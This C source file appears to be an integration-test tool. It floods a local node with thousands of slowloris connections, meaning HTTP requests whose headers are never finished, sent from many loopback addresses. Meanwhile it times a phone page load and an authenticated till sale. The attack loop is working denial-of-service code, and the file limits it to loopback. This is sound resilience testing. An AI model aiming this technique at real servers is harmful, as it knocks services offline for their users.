/*  slowloris: slow-header connections against a node, while a phone loads
    the stock page and a till makes sales, timed.  Used by
    tests/integration/test_slowloris.sh.

        slowloris --port P --token-file F --sku S
                  --group ADDR,ADDRS,CONNS [--group ...]
                  [--duration-s D] [--interval-ms I] [--probe-ms G]
                  [--phone-max-ms M] [--sale-max-ms N]

    Each --group opens CONNS connections from each of ADDRS source addresses
    (ADDR, then ADDR with its last byte + 1, ...: bind() before connect(),
    so 127.0.0.2,1,3000 is 3,000 connections from 127.0.0.2 and
    127.0.1.1,20,250 is 250 from each of 127.0.1.1 .. 127.0.1.20).  Each
    connection sends the start of a GET request and then one more header
    byte every I ms (default 1000), never finishing its headers.  A
    connection the node closes or refuses is opened again I ms later, so the
    pressure lasts the whole run (D seconds, default 25).  Connections are
    opened in paced batches, as a real attacker's would arrive.

    Meanwhile, from 127.0.0.1, every G ms (default 200) a phone loads `/`
    (a fresh connection, the whole page read) and a till POSTs a sale of one
    unit of sku S with the bearer token from F (status 201 expected).  The
    tool prints the attack's figures and, for each probe, the count, p50 and
    max latency and failures; the last line is machine-readable:

        slowloris: probes=N phone_p50_ms=.. phone_max_ms=.. sale_p50_ms=..
        sale_max_ms=.. phone_fail=.. sale_fail=.. attack_open_max=..
        attack_connects=.. attack_closed=..

    Exit 0 when every phone load took under M ms (default 2000) and every
    sale under N ms (default 1000) and none failed; 1 otherwise; 2 for
    usage errors.  Every loop is bounded by the run's duration; a probe
    gives up after 15 s.  Loopback only.                                      */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define S_GROUPS_MAX     8
#define S_CONNS_MAX      20000u
#define S_BATCH          100u       /* connections opened per pacing step */
#define S_BATCH_GAP_MS   20u
#define S_PROBES_MAX     100000u
#define S_PROBE_TIMEOUT_MS 15000u
#define S_HEAD "GET / HTTP/1.1\r\nHost: stall\r\nUser-Agent: slowloris\r\nX-Slow: "

typedef struct {
    struct in_addr base;
    unsigned addrs, conns;
} s_group;

typedef enum { S_IDLE, S_CONNECTING, S_OPEN } s_state;

typedef struct {
    int fd;
    s_state state;
    struct in_addr src;
    uint64_t next_ms;          /* next byte, or next attempt when idle */
    size_t sent;               /* bytes of the request sent */
} s_slow;

static uint16_t s_port;
static atomic_bool s_stop;

static uint64_t
s_now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t) ts.tv_sec * 1000u + (uint64_t) ts.tv_nsec / 1000000u;
}

static void
s_sleep_ms(unsigned ms)
{
    struct timespec ts = { ms / 1000, (long) (ms % 1000) * 1000000L };
    nanosleep(&ts, NULL);
}

/*  A non-blocking TCP socket bound to src, connecting to 127.0.0.1:port.  */
static int
s_open(struct in_addr src, bool nonblock)
{
    int fd = socket(AF_INET, SOCK_STREAM | (nonblock ? SOCK_NONBLOCK : 0), 0);
    if (fd < 0)
        return -1;
    int one = 1;
#ifdef IP_BIND_ADDRESS_NO_PORT
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
#endif
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr = src };
    if (bind(fd, (struct sockaddr *) &a, sizeof a) != 0) {
        close(fd);
        return -1;
    }
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(s_port) };
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, (struct sockaddr *) &to, sizeof to) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

/* ---- the attack (one thread, epoll) ------------------------------------ */

typedef struct {
    s_slow *conns;
    size_t count;
    unsigned interval_ms;
    uint64_t end_ms;
    /* figures */
    unsigned long connects, closed, failures;
    size_t open_now, open_max;
} s_attack;

static void
s_slow_close(s_attack *a, int ep, s_slow *c, uint64_t now)
{
    epoll_ctl(ep, EPOLL_CTL_DEL, c->fd, NULL);
    close(c->fd);
    if (c->state == S_OPEN) {
        a->closed++;
        a->open_now--;
    }
    c->fd = -1;
    c->state = S_IDLE;
    c->next_ms = now + a->interval_ms;
}

static void
s_slow_start(s_attack *a, int ep, s_slow *c, uint64_t now)
{
    c->fd = s_open(c->src, true);
    c->sent = 0;
    if (c->fd < 0) {
        a->failures++;
        c->next_ms = now + a->interval_ms;
        return;
    }
    struct epoll_event ev = { .events = EPOLLOUT | EPOLLIN | EPOLLRDHUP,
                              .data.ptr = c };
    epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &ev);
    c->state = S_CONNECTING;
    c->next_ms = now + 10000;    /* a connect stuck this long is retried */
}

/*  Send the request's next piece: the whole start at once, then a byte.   */
static void
s_slow_send(s_attack *a, int ep, s_slow *c, uint64_t now)
{
    static const char head[] = S_HEAD;
    const char *p;
    size_t n;
    if (c->sent < sizeof head - 1) {
        p = head + c->sent;
        n = sizeof head - 1 - c->sent;
    } else {
        p = "a";
        n = 1;
    }
    ssize_t w = send(c->fd, p, n, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (w < 0 && errno != EAGAIN) {
        s_slow_close(a, ep, c, now);
        return;
    }
    if (w > 0)
        c->sent += (size_t) w;
    c->next_ms = now + a->interval_ms;
}

static void *
s_attack_run(void *arg)
{
    s_attack *a = arg;
    int ep = epoll_create1(0);
    if (ep < 0)
        return NULL;
    size_t started = 0;
    uint64_t next_batch = s_now_ms();
    struct epoll_event evs[256];
    while (!atomic_load(&s_stop) && s_now_ms() < a->end_ms) {
        uint64_t now = s_now_ms();
        if (started < a->count && now >= next_batch) {
            for (unsigned i = 0; i < S_BATCH && started < a->count; i++, started++)
                s_slow_start(a, ep, &a->conns[started], now);
            next_batch = now + S_BATCH_GAP_MS;
        }
        int n = epoll_wait(ep, evs, 256, 10);
        now = s_now_ms();
        for (int i = 0; i < n; i++) {
            s_slow *c = evs[i].data.ptr;
            if (c->fd < 0)
                continue;
            if (evs[i].events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
                if (c->state == S_CONNECTING)
                    a->failures++;
                s_slow_close(a, ep, c, now);
                continue;
            }
            if (c->state == S_CONNECTING && (evs[i].events & EPOLLOUT)) {
                int err = 0;
                socklen_t len = sizeof err;
                getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
                if (err) {
                    a->failures++;
                    s_slow_close(a, ep, c, now);
                    continue;
                }
                struct epoll_event ev = { .events = EPOLLIN | EPOLLRDHUP, .data.ptr = c };
                epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &ev);
                c->state = S_OPEN;
                a->connects++;
                if (++a->open_now > a->open_max)
                    a->open_max = a->open_now;
                s_slow_send(a, ep, c, now);
            }
        }
        for (size_t i = 0; i < started; i++) {
            s_slow *c = &a->conns[i];
            if (now < c->next_ms)
                continue;
            if (c->state == S_IDLE)
                s_slow_start(a, ep, c, now);
            else if (c->state == S_OPEN)
                s_slow_send(a, ep, c, now);
            else
                s_slow_close(a, ep, c, now);     /* connect timed out */
        }
    }
    for (size_t i = 0; i < a->count; i++)
        if (a->conns[i].fd >= 0)
            close(a->conns[i].fd);
    close(ep);
    return NULL;
}

/* ---- the probes: a phone and a till, blocking, from 127.0.0.1 ---------- */

/*  One request on a fresh connection; the HTTP status, or -1 on a failure
    or timeout.  Reads the whole answer (Content-Length).                    */
static int
s_request(const char *req, size_t req_len)
{
    struct in_addr src = { htonl(INADDR_LOOPBACK) };
    int fd = s_open(src, false);
    if (fd < 0)
        return -1;
    struct timeval tv = { S_PROBE_TIMEOUT_MS / 1000, 0 };
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    int status = -1;
    static char buf[1 << 20];
    size_t have = 0;
    long body_len = -1;
    size_t head_len = 0;
    if (send(fd, req, req_len, MSG_NOSIGNAL) != (ssize_t) req_len)
        goto done;
    for (;;) {
        if (have == sizeof buf)
            goto done;
        ssize_t r = recv(fd, buf + have, sizeof buf - have, 0);
        if (r <= 0)
            goto done;
        have += (size_t) r;
        if (!head_len) {
            char *end = memmem(buf, have, "\r\n\r\n", 4);
            if (!end)
                continue;
            head_len = (size_t) (end - buf) + 4;
            if (sscanf(buf, "HTTP/1.%*d %d", &status) != 1) {
                status = -1;
                goto done;
            }
            char *cl = memmem(buf, head_len, "content-length:", 15);
            if (!cl)
                cl = memmem(buf, head_len, "Content-Length:", 15);
            body_len = cl ? strtol(cl + 15, NULL, 10) : 0;
        }
        if (head_len && have >= head_len + (size_t) body_len)
            break;
    }
done:
    close(fd);
    if (head_len == 0 || have < head_len + (size_t) (body_len < 0 ? 0 : body_len))
        return -1;
    return status;
}

typedef struct {
    unsigned n;
    unsigned failures;
    unsigned ms[S_PROBES_MAX];
} s_series;

static int
s_cmp(const void *a, const void *b)
{
    unsigned x = *(const unsigned *) a, y = *(const unsigned *) b;
    return x < y ? -1 : x > y;
}

static void
s_series_print(const char *name, s_series *s, unsigned *p50, unsigned *max)
{
    qsort(s->ms, s->n, sizeof s->ms[0], s_cmp);
    *p50 = s->n ? s->ms[s->n / 2] : 0;
    *max = s->n ? s->ms[s->n - 1] : 0;
    printf("slowloris: %s: %u probes, p50 %u ms, p99 %u ms, max %u ms, %u failed\n", name,
           s->n, *p50, s->n ? s->ms[(s->n * 99) / 100] : 0, *max, s->failures);
}

static s_series s_phone, s_sale;

static void
s_usage(void)
{
    fprintf(stderr, "usage: slowloris --port P --token-file F --sku S --group ADDR,ADDRS,CONNS "
                    "[--group ...] [--duration-s D] [--interval-ms I] [--probe-ms G] "
                    "[--phone-max-ms M] [--sale-max-ms N]\n");
}

int
main(int argc, char **argv)
{
    s_group groups[S_GROUPS_MAX];
    unsigned ngroups = 0, duration_s = 25, interval_ms = 1000, probe_ms = 200;
    unsigned phone_max_ms = 2000, sale_max_ms = 1000;
    const char *token_file = NULL, *sku = NULL;
    static const struct option opts[] = {
        {"port", required_argument, NULL, 'p'}, {"token-file", required_argument, NULL, 't'},
        {"sku", required_argument, NULL, 's'}, {"group", required_argument, NULL, 'g'},
        {"duration-s", required_argument, NULL, 'd'}, {"interval-ms", required_argument, NULL, 'i'},
        {"probe-ms", required_argument, NULL, 'r'}, {"phone-max-ms", required_argument, NULL, 'P'},
        {"sale-max-ms", required_argument, NULL, 'S'}, {NULL, 0, NULL, 0},
    };
    int c;
    while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
        switch (c) {
        case 'p': s_port = (uint16_t) atoi(optarg); break;
        case 't': token_file = optarg; break;
        case 's': sku = optarg; break;
        case 'd': duration_s = (unsigned) atoi(optarg); break;
        case 'i': interval_ms = (unsigned) atoi(optarg); break;
        case 'r': probe_ms = (unsigned) atoi(optarg); break;
        case 'P': phone_max_ms = (unsigned) atoi(optarg); break;
        case 'S': sale_max_ms = (unsigned) atoi(optarg); break;
        case 'g': {
            char addr[32];
            unsigned addrs, conns;
            if (ngroups == S_GROUPS_MAX
                || sscanf(optarg, "%31[0-9.],%u,%u", addr, &addrs, &conns) != 3
                || inet_pton(AF_INET, addr, &groups[ngroups].base) != 1 || !addrs || !conns) {
                s_usage();
                return 2;
            }
            groups[ngroups].addrs = addrs;
            groups[ngroups].conns = conns;
            ngroups++;
            break;
        }
        default: s_usage(); return 2;
        }
    }
    if (!s_port || !token_file || !sku || !ngroups || !duration_s || !interval_ms || !probe_ms) {
        s_usage();
        return 2;
    }
    char token[256] = "";
    FILE *tf = fopen(token_file, "r");
    if (!tf || !fgets(token, sizeof token, tf)) {
        fprintf(stderr, "slowloris: cannot read the token from %s\n", token_file);
        return 2;
    }
    fclose(tf);
    token[strcspn(token, "\r\n")] = '\0';

    s_attack a = { .interval_ms = interval_ms };
    for (unsigned g = 0; g < ngroups; g++)
        a.count += (size_t) groups[g].addrs * groups[g].conns;
    if (a.count > S_CONNS_MAX) {
        fprintf(stderr, "slowloris: at most %u connections\n", S_CONNS_MAX);
        return 2;
    }
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < a.count + 64) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
        getrlimit(RLIMIT_NOFILE, &rl);
        if (rl.rlim_cur < a.count + 64) {
            fprintf(stderr, "slowloris: %zu connections need ulimit -n %zu (have %lu)\n",
                    a.count, a.count + 64, (unsigned long) rl.rlim_cur);
            return 2;
        }
    }
    a.conns = calloc(a.count, sizeof *a.conns);
    if (!a.conns)
        return 2;
    /* Interleave the groups' connections, so every address arrives early. */
    size_t k = 0;
    for (unsigned round = 0; k < a.count; round++)
        for (unsigned g = 0; g < ngroups; g++)
            for (unsigned i = 0; i < groups[g].addrs; i++) {
                if (round >= groups[g].conns)
                    continue;
                s_slow *s = &a.conns[k++];
                s->fd = -1;
                s->state = S_IDLE;
                s->src.s_addr = htonl(ntohl(groups[g].base.s_addr) + i);
            }

    uint64_t start = s_now_ms();
    a.end_ms = start + (uint64_t) duration_s * 1000u;
    pthread_t t;
    if (pthread_create(&t, NULL, s_attack_run, &a) != 0)
        return 2;

    char sale[1024], body[256];
    char phone[] = "GET / HTTP/1.1\r\nHost: stall\r\nUser-Agent: phone\r\nConnection: close\r\n\r\n";
    unsigned long number = 0;       /* external ids unique to this run */
    long pid = (long) getpid();
    long run_s = (long) time(NULL);
    while (s_now_ms() + probe_ms < a.end_ms && s_phone.n < S_PROBES_MAX) {
        uint64_t t0 = s_now_ms();
        int st = s_request(phone, sizeof phone - 1);
        uint64_t t1 = s_now_ms();
        s_phone.ms[s_phone.n++] = (unsigned) (t1 - t0);
        if (st != 200)
            s_phone.failures++;
        int blen = snprintf(body, sizeof body,
                            "{\"lines\":[{\"sku\":\"%s\",\"qty\":1}],\"source\":\"in_person\","
                            "\"payment\":\"cash\",\"external_id\":\"slow-%ld-%ld-%lu\"}", sku,
                            run_s, pid, number++);
        int slen = snprintf(sale, sizeof sale,
                            "POST /api/sales HTTP/1.1\r\nHost: stall\r\nUser-Agent: till\r\n"
                            "Authorization: Bearer %s\r\nContent-Type: application/json\r\n"
                            "Content-Length: %d\r\nConnection: close\r\n\r\n%s",
                            token, blen, body);
        st = s_request(sale, (size_t) slen);
        uint64_t t2 = s_now_ms();
        s_sale.ms[s_sale.n++] = (unsigned) (t2 - t1);
        if (st != 201)
            s_sale.failures++;
        uint64_t next = t0 + probe_ms;
        uint64_t now = s_now_ms();
        if (next > now)
            s_sleep_ms((unsigned) (next - now));
    }
    atomic_store(&s_stop, true);
    pthread_join(t, NULL);

    printf("slowloris: attack: %zu slow connections from their addresses for %u s; "
           "at most %zu open at once; %lu connects, %lu closed by the node, %lu refused "
           "or failed to connect\n", a.count, duration_s, a.open_max, a.connects, a.closed,
           a.failures);
    unsigned pp50, pmax, sp50, smax;
    s_series_print("phone GET /", &s_phone, &pp50, &pmax);
    s_series_print("till sale", &s_sale, &sp50, &smax);
    printf("slowloris: probes=%u phone_p50_ms=%u phone_max_ms=%u sale_p50_ms=%u "
           "sale_max_ms=%u phone_fail=%u sale_fail=%u attack_open_max=%zu "
           "attack_connects=%lu attack_closed=%lu\n", s_phone.n, pp50, pmax, sp50, smax,
           s_phone.failures, s_sale.failures, a.open_max, a.connects, a.closed);
    free(a.conns);
    bool ok = s_phone.n > 0 && s_phone.failures == 0 && s_sale.failures == 0
              && pmax < phone_max_ms && smax < sale_max_ms;
    return ok ? 0 : 1;
}
